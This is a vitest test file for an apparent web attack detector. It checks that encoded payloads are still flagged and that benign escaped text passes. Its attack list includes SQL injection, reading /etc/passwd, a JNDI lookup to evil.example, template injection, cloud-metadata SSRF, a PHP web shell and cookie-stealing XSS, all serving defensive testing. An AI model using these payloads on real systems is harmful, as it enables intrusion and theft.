// Values an encoder turned into escapes (HTML numeric entities, JS \u and \x escapes, full-width
// forms): the engine inspects their text once more as a derived target (Target.unescaped), so
// every detector sees the attack, not only those that read a decoded form of their own.
import { beforeAll, describe, expect, it } from "vitest";
import { loadHarness, type Harness } from "../support/harness.js";
import { inspect, targetForms, type Req } from "../support/engine.js";

let h: Harness;
beforeAll(async () => {
  h = await loadHarness();
});

const hex = (c: string) => c.codePointAt(0)!.toString(16);
const ENCODERS: Record<string, (s: string) => string> = {
  "HTML hex entities": (s) => [...s].map((c) => `&#x${hex(c)};`).join(""),
  "HTML decimal entities": (s) => [...s].map((c) => `&#${c.codePointAt(0)};`).join(""),
  "HTML entities for symbols": (s) => [...s].map((c) => (/[A-Za-z0-9]/.test(c) ? c : `&#${c.codePointAt(0)};`)).join(""),
  "JS \\u escapes": (s) => [...s].map((c) => `\\u${hex(c).padStart(4, "0")}`).join(""),
  "JS \\x escapes": (s) => [...s].map((c) => `\\x${hex(c).padStart(2, "0")}`).join(""),
  "full-width forms": (s) => [...s].map((c) => (c > " " && c < "\x7f" ? String.fromCodePoint(c.codePointAt(0)! + 0xfee0) : c)).join(""),
};

// One attack per category whose detector reads the value as sent.
const ATTACKS: [string, string][] = [
  ["sqli", "1' UNION SELECT username, password FROM users--"],
  ["sqli", "' or 1=1--"],
  ["lfi", "../../../../etc/passwd"],
  ["rce", "; cat /etc/passwd"],
  ["java", "${jndi:ldap://evil.example/a}"],
  ["ssti", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"],
  ["ssrf", "http://169.254.169.254/latest/meta-data/"],
  ["php", "<?php system($_GET['c']); ?>"],
  ["nosql", '{"$ne": null}'],
];

const carry = (pos: string, v: string): Req => {
  if (pos === "query") return { path: `/api/items?q=${encodeURIComponent(v)}`, headers: [["host", "svc.local"]] };
  if (pos === "form") {
    return { method: "POST", path: "/api/items", headers: [["host", "svc.local"], ["content-type", "application/x-www-form-urlencoded"]], body: "q=" + encodeURIComponent(v) };
  }
  return { method: "POST", path: "/api/items", headers: [["host", "svc.local"], ["content-type", "application/json"]], body: JSON.stringify({ item: { q: v } }) };
};

describe("attacks hidden behind escapes", () => {
  for (const [encoder, encode] of Object.entries(ENCODERS)) {
    for (const [category, payload] of ATTACKS) {
      // full-width `$`, `{`: the NoSQL operator is a JSON key, which no full-width text spells
      if (encoder === "full-width forms" && category === "nosql") continue;
      it.each(["query", "form", "json"])(`${encoder}: ${category} ${JSON.stringify(payload.slice(0, 24))} in %s`, (pos) => {
        const v = inspect(h, carry(pos, encode(payload)));
        expect(v.attack, JSON.stringify(v.matches)).toBe(true);
      });
    }
  }
});

describe("whole bodies of escapes", () => {
  const body = (ct: string | null, text: string): Req => ({ method: "POST", path: "/api/items", headers: ct ? [["host", "svc.local"], ["content-type", ct]] : [["host", "svc.local"]], body: text });
  for (const [encoder, encode] of Object.entries(ENCODERS)) {
    if (encoder === "full-width forms") continue;
    it.each(ATTACKS.filter(([c]) => c !== "nosql"))(`${encoder}: %s as a body without a Content-Type`, (_, payload) => {
      expect(inspect(h, body(null, encode(payload))).attack).toBe(true);
    });
  }
  // the `&` of every entity splits a form body into junk arguments; the body's text is the payload
  it.each(ATTACKS.filter(([c]) => c !== "nosql"))("HTML hex entities: %s as a form body", (_, payload) => {
    expect(inspect(h, body("application/x-www-form-urlencoded", ENCODERS["HTML hex entities"](payload))).attack).toBe(true);
  });
  it("reads a form with an entity in a field as a form", () => {
    expect(inspect(h, body("application/x-www-form-urlencoded", "name=Caf%26%23233%3B&city=Paris&note=caf%C3%A9+%26amp%3B+bar")).attack).toBe(false);
  });
});

describe("Target.unescaped", () => {
  it.each([
    ["&#x27;&#x20;&#x6f;&#x72;&#x20;&#x31;&#x3d;&#x31;", "' or 1=1"],
    ["\\u0027\\u0020or\\u00201=1--", "' or 1=1--"],
    ["1&#39;&#32;UNION&#32;SELECT&#32;a&#44;b&#32;FROM&#32;t&#45;&#45;", "1' UNION SELECT a,b FROM t--"],
  ])("decodes %j (an encoder's work)", (value, text) => {
    expect(targetForms(h, 2, value).unescaped).toBe(text);
  });
  it.each([
    "Tom &amp; Jerry",
    "It&#39;s fine",
    "line one\\nline two\\nline three",
    "^\\d{3}-\\d{4}$",
    "C:\\Users\\xavier\\AppData\\Local\\Temp",
    "plain text with nothing escaped",
    "&#39;&#32;",
  ])("leaves %j alone (escapes are not most of it, or it is short)", (value) => {
    expect(targetForms(h, 2, value).unescaped).toBeNull();
  });
});

// Escapes that are little of a long value but most of the stretch they span: a breakout after a
// User-Agent's products, in a GraphQL argument (an attribute's event handler decodes the references).
describe("escapes packed into part of a value", () => {
  const UA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36";
  const ua = (v: string): Req => ({ path: "/app/home", headers: [["host", "svc.local"], ["user-agent", `${UA} ${v}`]] });
  const gql = (v: string): Req => ({
    method: "POST", path: "/graphql", headers: [["host", "svc.local"], ["content-type", "application/json"]],
    body: JSON.stringify({ query: `query { user(name: "${v}") { id name } }` }),
  });
  it("reads the stretch's text", () => {
    expect(targetForms(h, 3, `${UA} &#x27;;print();&#x27;`).unescaped).toBe(`${UA} ';print();'`);
  });
  it.each(["&#x27;;print();&#x27;", "&#39;-alert(1)-&#39;", "&#x22;;alert(document.cookie);//"])("blocks %s in a User-Agent and a GraphQL argument", (v) => {
    for (const r of [ua(v), gql(v)]) {
      const verdict = inspect(h, r);
      expect(verdict.attack, JSON.stringify(r)).toBe(true);
    }
  });
  it.each(["Tom &amp; Jerry &amp; friends", "O&#39;Brien&#39;s", "&quot;Best&quot; &amp; &quot;Cheapest&quot;", "caf&#233; cr&#232;me br&#251;l&#233;e"])("passes %s there", (v) => {
    for (const r of [ua(v), gql(v)]) expect(inspect(h, r).attack, JSON.stringify(r)).toBe(false);
  });
});

describe("benign text with escapes", () => {
  it.each([
    "&lt;p&gt;Hello &amp; welcome to our &lt;strong&gt;new&lt;/strong&gt; store&lt;/p&gt;",
    "&quot;Don&#39;t panic&quot; &mdash; &lt;em&gt;Douglas Adams&lt;/em&gt;",
    "It&#39;s O&#39;Brien&#39;s &amp; Sons&#39; order",
    "&#72;&#101;&#108;&#108;&#111;&#44;&#32;&#87;&#111;&#114;&#108;&#100;&#33;",
    "\\x48\\x65\\x6c\\x6c\\x6f select something from the menu",
    "Ｔｏｋｙｏ　Ｓｈｉｎｊｕｋｕ ｓｅｌｅｃｔ ｆｒｏｍ ｍｅｎｕ",
    "^\\d{3}-\\d{4}$|^\\w+@\\w+\\.\\w{2,}$",
    "C:\\Users\\xavier\\AppData\\Local\\Temp\\x86\\build.log",
  ])("%j passes in a JSON body and a form", (value) => {
    for (const pos of ["form", "json"]) {
      const v = inspect(h, carry(pos, value));
      expect(v.attack, `${pos}: ${JSON.stringify(v.matches)}`).toBe(false);
    }
  });
});
